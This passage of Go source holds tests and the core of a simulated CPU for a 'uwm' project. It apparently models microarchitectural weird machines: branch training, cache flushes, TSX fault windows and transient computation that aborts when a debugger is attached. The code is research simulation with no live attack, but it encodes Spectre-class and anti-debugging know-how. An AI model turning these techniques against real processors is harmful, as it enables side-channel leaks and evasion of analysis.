	r := newRig()
	cond := r.layout.AllocLine("cond")
	out := r.layout.AllocLine("out")
	b := isa.NewBuilder(0x3000)
	b.Label("train").
		MovI(isa.R1, 1).
		Jmp("br")
	b.Label("flushbody").
		ClflushCode("body").
		Fence().
		Halt()
	b.Label("fire").
		Clflush(out, 0).
		Clflush(cond, 0).
		Fence().
		MovI(isa.R9, 42).
		Load(isa.R1, cond, 0)
	b.Label("br").Brz(isa.R1, "after")
	b.AlignLine()
	b.Label("body").Store(out, 0, isa.R9).Halt()
	b.AlignLine()
	b.Label("after").Halt()
	p := b.MustBuild()

	for i := 0; i < 4; i++ {
		r.mustRun(t, p, "train")
	}
	r.mustRun(t, p, "flushbody")
	res := r.mustRun(t, p, "fire")
	if res.SpecWindows == 0 {
		t.Fatal("expected a speculative window")
	}
	if r.cpu.Hierarchy().DataCached(out.Addr) {
		t.Error("flushed body still executed inside the window")
	}
}

// tsxProg builds a transaction that faults and then transiently chases
// *in + out (the TSX assign chain).
func tsxProg(in, out mem.Symbol) *isa.Program {
	b := isa.NewBuilder(0x4000)
	b.Label("prep").
		Clflush(out, 0).
		Fence().
		Halt()
	b.Label("touch_in").Load(isa.R3, in, 0).Fence().Halt()
	b.Label("flush_in").Clflush(in, 0).Fence().Halt()
	b.Label("fire").
		MovI(isa.R15, 7).
		XBegin("handler").
		MovI(isa.R2, 0).
		Div(isa.R3, isa.R15, isa.R2). // fault
		Load(isa.R4, in, 0).
		LoadR(isa.R5, isa.R4, int64(out.Addr)).
		MovI(isa.R15, 99). // transient: must never commit
		XEnd()
	b.Label("handler").Halt()
	b.Label("commit").
		XBegin("handler2").
		MovI(isa.R14, 55).
		Store(out, 0, isa.R14).
		XEnd().
		Halt()
	b.Label("handler2").Halt()
	return b.MustBuild()
}

func TestTSXPostFaultWindow(t *testing.T) {
	r := newRig()
	in := r.layout.AllocLine("in")
	out := r.layout.AllocLine("out")
	p := tsxProg(in, out)

	// Input cached → transient chain reaches out.
	r.mustRun(t, p, "touch_in")
	r.mustRun(t, p, "prep")
	res := r.mustRun(t, p, "fire")
	if res.TxAborts != 1 {
		t.Fatalf("aborts = %d", res.TxAborts)
	}
	if !r.cpu.Hierarchy().DataCached(out.Addr) {
		t.Error("transient chain did not fill out")
	}
	if r.cpu.Reg(isa.R15) != 7 {
		t.Errorf("transient register write survived the abort: r15 = %d", r.cpu.Reg(isa.R15))
	}

	// Input flushed → chain starves, out stays cold.
	r.mustRun(t, p, "flush_in")
	r.mustRun(t, p, "prep")
	r.mustRun(t, p, "fire")
	if r.cpu.Hierarchy().DataCached(out.Addr) {
		t.Error("starved chain still filled out")
	}
}

func TestTSXCommitAndRollback(t *testing.T) {
	r := newRig()
	in := r.layout.AllocLine("in")
	out := r.layout.AllocLine("out")
	p := tsxProg(in, out)

	res := r.mustRun(t, p, "commit")
	if res.TxCommits != 1 {
		t.Fatalf("commits = %d", res.TxCommits)
	}
	if got := r.cpu.Mem().Read64(out.Addr); got != 55 {
		t.Errorf("committed store lost: %d", got)
	}

	// An aborting transaction's store must roll back.
	r.cpu.Mem().Write64(out.Addr, 7)
	b := isa.NewBuilder(0x6000)
	b.Label("roll").
		XBegin("h").
		MovI(isa.R1, 11).
		Store(out, 0, isa.R1).
		XAbort().
		XEnd()
	b.Label("h").Halt()
	r.mustRun(t, b.MustBuild(), "roll")
	if got := r.cpu.Mem().Read64(out.Addr); got != 7 {
		t.Errorf("aborted store leaked: %d", got)
	}
}

func TestFaultOutsideTransaction(t *testing.T) {
	r := newRig()
	b := isa.NewBuilder(0x7000)
	b.Label("main").
		MovI(isa.R1, 1).
		MovI(isa.R2, 0).
		Div(isa.R3, isa.R1, isa.R2).
		Halt()
	if _, err := r.cpu.Run(b.MustBuild(), "main"); !errors.Is(err, ErrFault) {
		t.Errorf("err = %v, want ErrFault", err)
	}
}

func TestNestedTransactionRejected(t *testing.T) {
	r := newRig()
	b := isa.NewBuilder(0x7000)
	b.Label("main").
		XBegin("h").
		XBegin("h").
		XEnd()
	b.Label("h").Halt()
	if _, err := r.cpu.Run(b.MustBuild(), "main"); err == nil {
		t.Error("nested xbegin accepted")
	}
}

func TestHaltInsideTransactionRejected(t *testing.T) {
	r := newRig()
	b := isa.NewBuilder(0x7000)
	b.Label("main").XBegin("h").Halt()
	b.Label("h").Halt()
	if _, err := r.cpu.Run(b.MustBuild(), "main"); err == nil {
		t.Error("halt inside txn accepted")
	}
}

func TestXEndOutsideTransactionRejected(t *testing.T) {
	r := newRig()
	b := isa.NewBuilder(0x7000)
	b.Label("main").XEnd().Halt()
	if _, err := r.cpu.Run(b.MustBuild(), "main"); err == nil {
		t.Error("stray xend accepted")
	}
}

func TestRunawayProgram(t *testing.T) {
	m := mem.New()
	cfg := DefaultConfig()
	cfg.MaxSteps = 100
	c := New(cfg, m, nil)
	b := isa.NewBuilder(0x100)
	b.Label("spin").Jmp("spin")
	if _, err := c.Run(b.MustBuild(), "spin"); !errors.Is(err, ErrRunaway) {
		t.Errorf("err = %v, want ErrRunaway", err)
	}
}

func TestUnknownEntry(t *testing.T) {
	r := newRig()
	b := isa.NewBuilder(0x100)
	b.Label("a").Halt()
	if _, err := r.cpu.Run(b.MustBuild(), "zzz"); err == nil {
		t.Error("unknown entry accepted")
	}
}

func TestJMPUsesBTB(t *testing.T) {
	r := newRig()
	b := isa.NewBuilder(0x8000)
	b.Label("main").Jmp("tgt")
	b.Label("tgt").Halt()
	p := b.MustBuild()
	r.mustRun(t, p, "main")
	first := r.cpu.Stats().Committed
	_ = first
	// After one execution the BTB holds the target.
	if tgt, ok := r.cpu.BTB().Lookup(p.Code[0].Addr); !ok || tgt != p.Code[1].Addr {
		t.Error("BTB not updated by jmp")
	}
}

func TestMulContentionDecay(t *testing.T) {
	r := newRig()
	b := isa.NewBuilder(0x9000)
	b.Label("burst").MovI(isa.R1, 3).MovI(isa.R2, 5)
	for i := 0; i < 16; i++ {
		b.Mul(isa.R3, isa.R1, isa.R2)
	}
	b.Halt()
	b.Label("wait")
	for i := 0; i < 250; i++ {
		b.Nop()
	}
	b.Halt()
	r.mustRun(t, b.MustBuild(), "burst")
	high := r.cpu.MulPressure()
	r.mustRun(t, b.MustBuild(), "wait")
	low := r.cpu.MulPressure()
	if high < 5 {
		t.Errorf("burst pressure %f too low", high)
	}
	if low > high/2 {
		t.Errorf("pressure did not decay: %f → %f", high, low)
	}
}

func TestSpuriousAbortInjection(t *testing.T) {
	m := mem.New()
	ns := noise.NewSource(3, noise.Config{SpuriousAbortProb: 1}) // always abort
	c := New(DefaultConfig(), m, ns)
	layout := mem.NewLayout(0x10_0000)
	out := layout.AllocLine("out")
	b := isa.NewBuilder(0x100)
	b.Label("main").
		XBegin("h").
		MovI(isa.R1, 9).
		Store(out, 0, isa.R1).
		XEnd().
		Halt()
	b.Label("h").Halt()
	res, err := c.Run(b.MustBuild(), "main")
	if err != nil {
		t.Fatal(err)
	}
	if res.SpuriousAborts != 1 || res.TxCommits != 0 {
		t.Errorf("res = %+v", res)
	}
	if c.Mem().Read64(out.Addr) != 0 {
		t.Error("spuriously aborted store committed")
	}
}

func TestObservedAbortsTransactions(t *testing.T) {
	r := newRig()
	out := r.layout.AllocLine("out")
	b := isa.NewBuilder(0x100)
	b.Label("main").
		XBegin("h").
		MovI(isa.R1, 9).
		Store(out, 0, isa.R1).
		XEnd().
		Halt()
	b.Label("h").Halt()
	p := b.MustBuild()
	r.cpu.SetObserved(true)
	res := r.mustRun(t, p, "main")
	if res.TxCommits != 0 || res.TxAborts != 1 {
		t.Errorf("observed txn: %+v", res)
	}
	if r.cpu.Stats().ObservedAborts != 1 {
		t.Error("ObservedAborts not counted")
	}
	r.cpu.SetObserved(false)
	res = r.mustRun(t, p, "main")
	if res.TxCommits != 1 {
		t.Errorf("unobserved txn: %+v", res)
	}
}

// TestMSHRMerging: a second access to a line whose miss is in flight
// completes with the fill rather than instantly.
func TestMSHRMerging(t *testing.T) {
	r := newRig()
	x := r.layout.AllocLine("x")
	b := isa.NewBuilder(0xA000)
	b.Label("main").
		Clflush(x, 0).
		Fence().
		Load(isa.R1, x, 0). // miss in flight
		Rdtsc(isa.R10).     // serializes: waits for the fill
		Load(isa.R2, x, 0). // now a plain hit
		Rdtsc(isa.R12).
		Halt()
	r.mustRun(t, b.MustBuild(), "main")
	delta := int64(r.cpu.Reg(isa.R12) - r.cpu.Reg(isa.R10))
	if delta > 45 {
		t.Errorf("post-serialize reload took %d cycles; expected a hit", delta)
	}
}

func TestRegWriteReadBack(t *testing.T) {
	r := newRig()
	r.cpu.SetReg(isa.R5, 777)
	if r.cpu.Reg(isa.R5) != 777 {
		t.Error("SetReg/Reg mismatch")
	}
}

// TestCallRetRoundTrip: the link-register call/return convention with
// RSB prediction.
func TestCallRetRoundTrip(t *testing.T) {
	r := newRig()
	x := r.layout.AllocLine("x")
	b := isa.NewBuilder(0xB000)
	b.Label("main").
		MovI(isa.R1, 5).
		Call("double").
		Call("double").
		Store(x, 0, isa.R1).
		Halt()
	b.Label("double").
		Add(isa.R1, isa.R1, isa.R1).
		Ret()
	p := b.MustBuild()
	r.mustRun(t, p, "main")
	if got := r.cpu.Mem().Read64(x.Addr); got != 20 {
		t.Errorf("double(double(5)) = %d, want 20", got)
	}
}

// TestRetMispredictionCosts: a return whose address was forged (not on
// the RSB) pays the refill penalty.
func TestRetMispredictionCosts(t *testing.T) {
	r := newRig()
	b := isa.NewBuilder(0xB000)
	b.Label("main").
		Call("fn").
		Halt()
	b.Label("fn").Ret()
	b.Label("forged").
		MovI(isa.R15, int64(0xB000+isa.InstBytes)). // return to main+1 without a call
		Ret()
	p := b.MustBuild()

	// Warm code.
	r.mustRun(t, p, "main")
	resGood := r.mustRun(t, p, "main")
	resBad := r.mustRun(t, p, "forged")
	// Per-instruction costs differ, but the forged return must pay at
	// least the mispredict penalty more than the predicted one's ret.
	if resBad.Cycles() < r.cpu.Config().MispredictPenalty {
		t.Errorf("forged return too cheap: %d cycles", resBad.Cycles())
	}
	_ = resGood
}

// TestRetOutsideProgramFails: returning to a bogus address is an error.
func TestRetOutsideProgramFails(t *testing.T) {
	r := newRig()
	b := isa.NewBuilder(0xB000)
	b.Label("main").
		MovI(isa.R15, 0x12345679). // unaligned, out of range
		Ret()
	if _, err := r.cpu.Run(b.MustBuild(), "main"); err == nil {
		t.Error("bogus return address accepted")
	}
}

// TestTransientCallRet: call/ret chains execute inside transient
// windows, so gate bodies can be shared subroutines.
func TestTransientCallRet(t *testing.T) {
	r := newRig()
	out := r.layout.AllocLine("out")
	b := isa.NewBuilder(0xB000)
	b.Label("fire").
		Clflush(out, 0).
		MovI(isa.R9, 3).
		XBegin("h").
		MovI(isa.R2, 0).
		Div(isa.R3, isa.R9, isa.R2). // window opens
		Call("sub").
		XEnd()
	b.Label("h").Halt()
	b.Label("sub").
		Store(out, 0, isa.R9).
		Ret()
	p := b.MustBuild()
	r.mustRun(t, p, "fire")
	r.mustRun(t, p, "fire") // warmed
	if !r.cpu.Hierarchy().DataCached(out.Addr) {
		t.Error("transient call did not reach the subroutine")
	}
}
