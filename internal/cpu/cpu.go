package cpu

import (
	"errors"
	"fmt"
	"math"

	"uwm/internal/branch"
	"uwm/internal/cache"
	"uwm/internal/isa"
	"uwm/internal/mem"
	"uwm/internal/metrics"
	"uwm/internal/noise"
	"uwm/internal/trace"
)

// ErrFault is returned when a fault (divide by zero) occurs outside a
// transactional region.
var ErrFault = errors.New("cpu: fault outside transaction")

// ErrRunaway is returned when a program exceeds Config.MaxSteps.
var ErrRunaway = errors.New("cpu: program exceeded step limit")

// neverReady marks a register whose producing instruction could not
// issue inside its speculative window: dependants starve.
const neverReady = math.MaxInt64 / 4

// Result reports one Run call's outcome and counters.
type Result struct {
	Entry          string
	Steps          int   // committed instructions
	StartCycle     int64 // TSC at entry
	EndCycle       int64 // TSC at halt
	Mispredicts    int
	SpecWindows    int // speculative windows opened
	SpecInsts      int // instructions executed transiently
	TxCommits      int
	TxAborts       int // all aborts (designed + spurious)
	SpuriousAborts int // aborts injected by the noise model
}

// Cycles returns the simulated duration of the run.
func (r Result) Cycles() int64 { return r.EndCycle - r.StartCycle }

// transaction is one open TSX region.
type transaction struct {
	regs     [isa.NumRegs]uint64
	ready    [isa.NumRegs]int64
	writes   []memWrite
	abortIdx int
	// events buffers architectural trace events produced inside the
	// region: they become visible at XEND and vanish on abort. This is
	// what a debugger or tracer actually gets to see — the paper's §4
	// point that an aborted transaction's body is unobservable ("the
	// debugger would see the XBEGIN instruction, then the next
	// instruction would be the beginning of the abort handler").
	events []trace.Event
}

type memWrite struct {
	addr mem.Addr
	old  uint64
}

// CPU is the simulated processor. State — caches, predictors, TSC,
// contention — persists across Run calls, which is what lets a weird
// machine stage its computation as a sequence of small program runs
// (train, flush, fire, read) over shared microarchitectural state.
type CPU struct {
	cfg  Config
	regs [isa.NumRegs]uint64
	// ready[r] is the absolute cycle at which r's current value is
	// available to consumers; loads complete asynchronously.
	ready [isa.NumRegs]int64

	mem  *mem.Memory
	hier *cache.Hierarchy
	dir  branch.DirectionPredictor
	btb  *branch.BTB
	rsb  *branch.RSB

	clock   int64 // front-end clock; also the TSC
	horizon int64 // completion time of the slowest in-flight instruction

	mulPressure float64
	mulStamp    int64
	robPressure float64
	robStamp    int64
	lastDst     isa.Reg
	hasLastDst  bool

	// inflight maps a line address to the absolute cycle its pending
	// fill completes. It models MSHR merging: a second access to a
	// line whose miss is still in flight completes when the fill
	// arrives rather than magically hitting — without this, the TSX
	// AND chain of Figure 3 (whose add reuses an operand another chain
	// is already fetching) would be wrongly fast.
	inflight map[mem.Addr]int64

	txn *transaction
	// observed models an attached debugger or single-stepping tracer:
	// transactional regions abort the moment they begin.
	observed bool
	ns       *noise.Source
	sink     trace.Sink
	stats    Stats
	// histSpec, when attached, observes every speculative window's
	// length in cycles — the distribution that decides whether gate
	// bodies fit their windows.
	histSpec *metrics.Histogram
}

// Stats accumulates lifetime counters across runs.
type Stats struct {
	Committed      uint64
	Mispredicts    uint64
	SpecWindows    uint64
	SpecInsts      uint64
	TxBegins       uint64
	TxCommits      uint64
	TxAborts       uint64
	SpuriousAborts uint64
	ObservedAborts uint64
	MSHRMerges     uint64
}

// New builds a CPU over the given memory with the given noise source.
// A nil source gets a quiet, deterministic one.
func New(cfg Config, m *mem.Memory, ns *noise.Source) *CPU {
	cfg.normalize()
	if ns == nil {
		ns = noise.NewSource(1, noise.Quiet())
	}
	c := &CPU{
		cfg:      cfg,
		mem:      m,
		hier:     cache.NewHierarchy(cfg.Hierarchy),
		btb:      branch.NewBTB(cfg.BTBSize),
		rsb:      branch.NewRSB(cfg.RSBDepth),
		ns:       ns,
		inflight: make(map[mem.Addr]int64),
	}
	if cfg.UseGShare {
		c.dir = branch.NewGShare(cfg.PredictorSize, cfg.GShareHistoryBits)
	} else {
		c.dir = branch.NewBimodal(cfg.PredictorSize)
	}
	return c
}

// Config returns the model parameters.
func (c *CPU) Config() Config { return c.cfg }

// Mem returns the architectural memory.
func (c *CPU) Mem() *mem.Memory { return c.mem }

// Hierarchy returns the cache hierarchy (for probes by tests and the
// evaluation harness; gates only ever observe it through timing).
func (c *CPU) Hierarchy() *cache.Hierarchy { return c.hier }

// Predictor returns the direction predictor.
func (c *CPU) Predictor() branch.DirectionPredictor { return c.dir }

// BTB returns the branch target buffer.
func (c *CPU) BTB() *branch.BTB { return c.btb }

// Noise returns the noise source.
func (c *CPU) Noise() *noise.Source { return c.ns }

// Stats returns lifetime counters.
func (c *CPU) Stats() Stats { return c.stats }

// TSC returns the current cycle count.
func (c *CPU) TSC() int64 { return c.clock }

// Inflight returns a copy of the outstanding-fill table (line →
// completion cycle), a diagnostics probe for tests.
func (c *CPU) Inflight() map[mem.Addr]int64 {
	cp := make(map[mem.Addr]int64, len(c.inflight))
	for k, v := range c.inflight {
		cp[k] = v
	}
	return cp
}

// Reg returns the architectural value of r.
func (c *CPU) Reg(r isa.Reg) uint64 { return c.regs[r] }

// SetReg sets the architectural value of r (harness use).
func (c *CPU) SetReg(r isa.Reg, v uint64) {
	c.regs[r] = v
	c.ready[r] = c.clock
}

// SetSink attaches an event sink (nil detaches). A Recorder, a file
// sink, or a trace.Tee of several all work.
func (c *CPU) SetSink(s trace.Sink) { c.sink = s }

// Sink returns the attached sink, possibly nil.
func (c *CPU) Sink() trace.Sink { return c.sink }

// SetRecorder attaches an event recorder (nil detaches), a
// compatibility wrapper over SetSink.
func (c *CPU) SetRecorder(rec *trace.Recorder) {
	if rec == nil {
		c.sink = nil
		return
	}
	c.sink = rec
}

// SetObserved attaches or detaches the modelled debugger: while true,
// every transactional region aborts on entry.
func (c *CPU) SetObserved(on bool) { c.observed = on }

// Observed reports whether a debugger is attached.
func (c *CPU) Observed() bool { return c.observed }

// Recorder returns the attached sink when it is a buffering Recorder,
// nil otherwise (including when the recorder is wrapped in a Tee).
func (c *CPU) Recorder() *trace.Recorder {
	if r, ok := c.sink.(*trace.Recorder); ok {
		return r
	}
	return nil
}

// tracing reports whether an attached sink would observe an emitted
// event; emit sites use it to skip expensive event assembly
// (disassembly, formatting).
func (c *CPU) tracing() bool { return trace.Enabled(c.sink) }

// record emits an event when a live sink is attached. Architectural
// events produced inside an open transaction are buffered and only
// reach the sink if the transaction commits.
func (c *CPU) record(k trace.Kind, pc, addr mem.Addr, val uint64, text string) {
	if !c.tracing() {
		return
	}
	e := trace.Event{Kind: k, Cycle: c.clock, PC: uint64(pc), Addr: uint64(addr), Value: val, Text: text}
	if c.txn != nil && k.Architectural() && k != trace.KindTxBegin {
		c.txn.events = append(c.txn.events, e)
		return
	}
	c.sink.Emit(e)
}

// Run executes prog from the given entry label until HALT, returning
// per-run counters. Architectural register values persist across calls,
// as does all microarchitectural state.
func (c *CPU) Run(prog *isa.Program, entry string) (Result, error) {
	idx, err := prog.Entry(entry)
	if err != nil {
		return Result{}, err
	}
	res := Result{Entry: entry, StartCycle: c.clock}
	for {
		if idx < 0 || idx >= len(prog.Code) {
			return res, fmt.Errorf("cpu: control fell off program at index %d", idx)
		}
		if res.Steps >= c.cfg.MaxSteps {
			return res, ErrRunaway
		}
		inst := &prog.Code[idx]

		// Instruction fetch.
		c.clock += c.fetchLatency(inst.Addr)
		c.robStall()

		if inst.Op == isa.HALT {
			if c.txn != nil {
				return res, errors.New("cpu: halt inside open transaction")
			}
			if c.tracing() {
				c.record(trace.KindCommit, inst.Addr, 0, 0, inst.String())
			}
			res.Steps++
			res.EndCycle = c.clock
			c.stats.Committed += uint64(res.Steps)
			return res, nil
		}

		// Record the commit before executing: if this instruction
		// faults and aborts a transaction, the buffered event dies
		// with the region, exactly like the retirement that never
		// happened. (Guarded: disassembly is expensive.)
		if c.tracing() {
			c.record(trace.KindCommit, inst.Addr, 0, 0, inst.String())
		}
		next, err := c.step(prog, idx, inst, &res)
		if err != nil {
			res.EndCycle = c.clock
			return res, err
		}
		res.Steps++
		idx = next
	}
}

// step commits one instruction and returns the next instruction index.
func (c *CPU) step(prog *isa.Program, idx int, inst *isa.Inst, res *Result) (int, error) {
	cfg := &c.cfg
	switch inst.Op {
	case isa.NOP:
		c.clock++

	case isa.MOVI:
		c.writeReg(inst.Dst, uint64(inst.Imm), c.clock+cfg.ALULatency)
		c.clock++

	case isa.MOV:
		c.writeReg(inst.Dst, c.regs[inst.Src1], maxi(c.clock, c.ready[inst.Src1])+cfg.ALULatency)
		c.clock++

	case isa.LOAD:
		addr := inst.SymAddr + mem.Addr(inst.Imm)
		lat := c.memAccess(addr, c.clock)
		done := c.clock + lat
		c.writeReg(inst.Dst, c.mem.Read64(addr), done)
		c.bump(done)
		c.clock++

	case isa.LOADR:
		addr := mem.Addr(c.regs[inst.Src1]) + mem.Addr(inst.Imm)
		start := maxi(c.clock, c.ready[inst.Src1])
		lat := c.memAccess(addr, start)
		done := start + lat
		c.writeReg(inst.Dst, c.mem.Read64(addr), done)
		c.bump(done)
		c.clock++

	case isa.ADDM:
		addr := inst.SymAddr + mem.Addr(inst.Imm)
		start := maxi(c.clock, c.ready[inst.Dst])
		lat := c.memAccess(addr, start)
		done := start + lat + cfg.ALULatency
		c.writeReg(inst.Dst, c.regs[inst.Dst]+c.mem.Read64(addr), done)
		c.bump(done)
		c.clock++

	case isa.STORE:
		addr := inst.SymAddr + mem.Addr(inst.Imm)
		c.commitStore(addr, c.regs[inst.Src1], inst.Addr)
		c.clock++

	case isa.STORR:
		addr := mem.Addr(c.regs[inst.Src1]) + mem.Addr(inst.Imm)
		c.commitStore(addr, c.regs[inst.Src2], inst.Addr)
		c.clock++

	case isa.ADD, isa.SUB, isa.AND, isa.OR, isa.XOR:
		start := maxi(c.clock, maxi(c.ready[inst.Src1], c.ready[inst.Src2]))
		c.writeReg(inst.Dst, alu(inst.Op, c.regs[inst.Src1], c.regs[inst.Src2]), start+cfg.ALULatency)
		c.clock++

	case isa.ADDI:
		start := maxi(c.clock, c.ready[inst.Src1])
		c.writeReg(inst.Dst, c.regs[inst.Src1]+uint64(inst.Imm), start+cfg.ALULatency)
		c.clock++

	case isa.SHL:
		start := maxi(c.clock, c.ready[inst.Src1])
		c.writeReg(inst.Dst, c.regs[inst.Src1]<<uint(inst.Imm&63), start+cfg.ALULatency)
		c.clock++

	case isa.SHR:
		start := maxi(c.clock, c.ready[inst.Src1])
		c.writeReg(inst.Dst, c.regs[inst.Src1]>>uint(inst.Imm&63), start+cfg.ALULatency)
		c.clock++

	case isa.MUL:
		start := maxi(c.clock, maxi(c.ready[inst.Src1], c.ready[inst.Src2]))
		lat := c.mulLatency()
		c.addMulPressure(1)
		done := start + lat
		c.writeReg(inst.Dst, c.regs[inst.Src1]*c.regs[inst.Src2], done)
		c.bump(done)
		c.clock++

	case isa.DIV:
		if c.regs[inst.Src2] == 0 {
			return c.fault(prog, idx, res)
		}
		start := maxi(c.clock, maxi(c.ready[inst.Src1], c.ready[inst.Src2]))
		done := start + cfg.DivLatency
		c.writeReg(inst.Dst, c.regs[inst.Src1]/c.regs[inst.Src2], done)
		c.bump(done)
		c.clock++

	case isa.CLF:
		addr := inst.SymAddr + mem.Addr(inst.Imm)
		c.hier.FlushData(addr)
		delete(c.inflight, addr.Line())
		c.record(trace.KindCacheFlush, inst.Addr, addr, 0, "clflush")
		c.clock += cfg.FlushLatency

	case isa.CLFL:
		addr := prog.Code[inst.TargetIdx].Addr.Line()
		c.hier.FlushInst(addr)
		delete(c.inflight, addr.Line())
		if c.tracing() {
			c.record(trace.KindCacheFlush, inst.Addr, addr, 0, "clflush.i "+inst.Target)
		}
		c.clock += cfg.FlushLatency

	case isa.BRZ, isa.BRNZ:
		return c.branch(prog, idx, inst, res), nil

	case isa.JMP:
		target := prog.Code[inst.TargetIdx].Addr
		if pred, ok := c.btb.Lookup(inst.Addr); !ok || pred != target {
			c.clock += cfg.BTBMissPenalty
		} else {
			c.clock++
		}
		c.btb.Update(inst.Addr, target)
		return inst.TargetIdx, nil

	case isa.CALL:
		target := prog.Code[inst.TargetIdx].Addr
		ret := inst.Addr + isa.InstBytes
		c.rsb.Push(ret)
		c.writeReg(inst.Dst, uint64(ret), c.clock+cfg.ALULatency)
		if pred, ok := c.btb.Lookup(inst.Addr); !ok || pred != target {
			c.clock += cfg.BTBMissPenalty
		} else {
			c.clock++
		}
		c.btb.Update(inst.Addr, target)
		return inst.TargetIdx, nil

	case isa.RET:
		actual := mem.Addr(c.regs[inst.Src1])
		retIdx, err := indexOf(prog, actual)
		if err != nil {
			return 0, err
		}
		if pred, ok := c.rsb.Pop(); ok && pred == actual {
			c.clock++
		} else {
			// Return-stack mispredict: refill like a branch.
			c.clock += cfg.MispredictPenalty
		}
		return retIdx, nil

	case isa.RDTSC:
		c.serialize()
		if extra, hit := c.ns.Outlier(); hit {
			c.clock += extra
			c.record(trace.KindNoise, inst.Addr, 0, uint64(extra), "interrupt outlier")
		}
		v := c.clock + c.ns.TimerJitter()
		if v < 0 {
			v = 0
		}
		c.writeReg(inst.Dst, uint64(v), c.clock+cfg.RdtscLatency)
		c.clock += cfg.RdtscLatency
		c.horizon = c.clock

	case isa.FENCE:
		c.serialize()
		c.clock++

	case isa.XBEGIN:
		return c.xbegin(prog, idx, inst, res)

	case isa.XEND:
		if c.txn == nil {
			return 0, errors.New("cpu: xend outside transaction")
		}
		committed := c.txn.events
		c.txn = nil
		if c.tracing() {
			for _, e := range committed {
				c.sink.Emit(e)
			}
		}
		c.stats.TxCommits++
		res.TxCommits++
		c.record(trace.KindTxEnd, inst.Addr, 0, 0, "commit")
		c.clock += cfg.XEndLatency

	case isa.XABORT:
		if c.txn == nil {
			return 0, errors.New("cpu: xabort outside transaction")
		}
		// Explicit abort: no post-fault transient window.
		return c.abortTxn(prog, res, false), nil

	default:
		return 0, fmt.Errorf("cpu: unknown opcode %v", inst.Op)
	}
	return idx + 1, nil
}

// fault handles a divide-by-zero. Inside a transaction it triggers the
// post-fault transient window and aborts; outside it is a program error.
func (c *CPU) fault(prog *isa.Program, idx int, res *Result) (int, error) {
	if c.txn == nil {
		return 0, ErrFault
	}
	return c.abortTxn2(prog, idx, res), nil
}

// abortTxn2 aborts the current transaction after the faulting
// instruction at idx, first running the post-fault transient window over
// the following instructions (the paper's §4 mechanism).
func (c *CPU) abortTxn2(prog *isa.Program, idx int, res *Result) int {
	window := c.cfg.TSXWindow + c.ns.WindowJitter()
	if c.ns.ChainBreak() {
		// The fault was detected on a warm path and the window
		// collapsed before dependent loads could issue — the main
		// error source of TSX gates (Table 8's accuracy band).
		window = 0
	}
	if window < 0 {
		window = 0
	}
	c.speculate(prog, idx+1, c.clock, c.clock+window, res)
	return c.abortTxn(prog, res, false)
}

// abortTxn rolls back the open transaction and redirects to its abort
// handler. spurious marks noise-injected aborts for the stats.
func (c *CPU) abortTxn(prog *isa.Program, res *Result, spurious bool) int {
	t := c.txn
	c.txn = nil
	// Roll back memory writes in reverse order, then registers.
	for i := len(t.writes) - 1; i >= 0; i-- {
		c.mem.Write64(t.writes[i].addr, t.writes[i].old)
	}
	c.regs = t.regs
	c.ready = t.ready
	c.clock += c.cfg.TSXAbortPenalty
	for r := range c.ready {
		if c.ready[r] > c.clock {
			c.ready[r] = c.clock
		}
	}
	c.horizon = c.clock
	c.stats.TxAborts++
	res.TxAborts++
	if spurious {
		c.stats.SpuriousAborts++
		res.SpuriousAborts++
	}
	c.record(trace.KindTxAbort, prog.Code[t.abortIdx].Addr, 0, 0, "abort")
	return t.abortIdx
}

// xbegin opens a transaction, possibly scheduling a spurious abort.
func (c *CPU) xbegin(prog *isa.Program, idx int, inst *isa.Inst, res *Result) (int, error) {
	if c.txn != nil {
		return 0, errors.New("cpu: nested transactions are not supported")
	}
	c.txn = &transaction{regs: c.regs, ready: c.ready, abortIdx: inst.TargetIdx}
	c.stats.TxBegins++
	c.clock += c.cfg.XBeginLatency
	if c.tracing() {
		c.record(trace.KindTxBegin, inst.Addr, 0, 0, "xbegin "+inst.Target)
	}
	if c.observed {
		// A debugger single-stepping the region is a side effect and
		// forces an abort: observation destroys the computation (§4's
		// anti-debug property).
		c.stats.ObservedAborts++
		return c.abortTxn(prog, res, false), nil
	}
	if c.ns.SpuriousAbort() {
		// An external event (interrupt, conflicting access) kills the
		// transaction before its body runs: no transient window, no
		// weird computation. Table 8 counts these.
		return c.abortTxn(prog, res, true), nil
	}
	return idx + 1, nil
}

// branch commits a conditional branch: predict, detect misprediction,
// open the speculative window sized by the condition's readiness, and
// train the predictor with the outcome.
func (c *CPU) branch(prog *isa.Program, idx int, inst *isa.Inst, res *Result) int {
	taken := c.regs[inst.Src1] == 0
	if inst.Op == isa.BRNZ {
		taken = !taken
	}
	pred := c.dir.Predict(inst.Addr)
	issue := c.clock
	resolve := maxi(issue, c.ready[inst.Src1])

	if pred != taken {
		res.Mispredicts++
		c.stats.Mispredicts++
		if resolve > issue {
			// The wrong path executes transiently until the branch
			// resolves; its cache effects persist.
			deadline := resolve + c.ns.WindowJitter()
			if deadline > issue {
				wrong := idx + 1
				if pred {
					wrong = inst.TargetIdx
				}
				c.speculate(prog, wrong, issue, deadline, res)
			}
		}
		c.clock = resolve + c.cfg.MispredictPenalty
	} else {
		c.clock++
	}
	c.dir.Update(inst.Addr, taken)
	if taken {
		return inst.TargetIdx
	}
	return idx + 1
}

// commitStore performs an architectural store: write-allocate cache
// fill, memory write, transaction logging, trace events.
func (c *CPU) commitStore(addr mem.Addr, v uint64, pc mem.Addr) {
	lat := c.memAccess(addr, c.clock)
	c.bump(c.clock + lat)
	if c.txn != nil {
		c.txn.writes = append(c.txn.writes, memWrite{addr: addr &^ 7, old: c.mem.Read64(addr)})
	}
	c.mem.Write64(addr, v)
	// Stores inside a transaction become architecturally visible only
	// at XEND; record() buffers them against the open transaction.
	c.record(trace.KindMemWrite, pc, addr, v, "")
}

// fetchLatency performs an instruction fetch of the line containing
// addr, charging the decode-restart penalty for DRAM-served fetches.
func (c *CPU) fetchLatency(addr mem.Addr) int64 {
	lat, lvl := c.hier.FetchInst(addr)
	if lvl == cache.LevelMem {
		lat += c.cfg.IFetchMissPenalty
	}
	return lat
}

// memAccess performs a data-cache access issued at the given cycle and
// returns its latency, applying DRAM jitter and MSHR merging: an access
// to a line whose fill is still in flight completes when that fill does.
func (c *CPU) memAccess(addr mem.Addr, issue int64) int64 {
	line := addr.Line()
	lat, lvl := c.hier.LoadData(addr)
	if lvl == cache.LevelMem {
		lat += c.ns.MemJitter() + c.ns.MemDelta()
		if lat < 1 {
			lat = 1
		}
	}
	if done, ok := c.inflight[line]; ok {
		if done > issue && lvl == cache.LevelL1 {
			// The line is present but its fill is still in flight
			// (this access hit an MSHR): it completes when the fill
			// arrives, not at L1 latency. This is what keeps the TSX
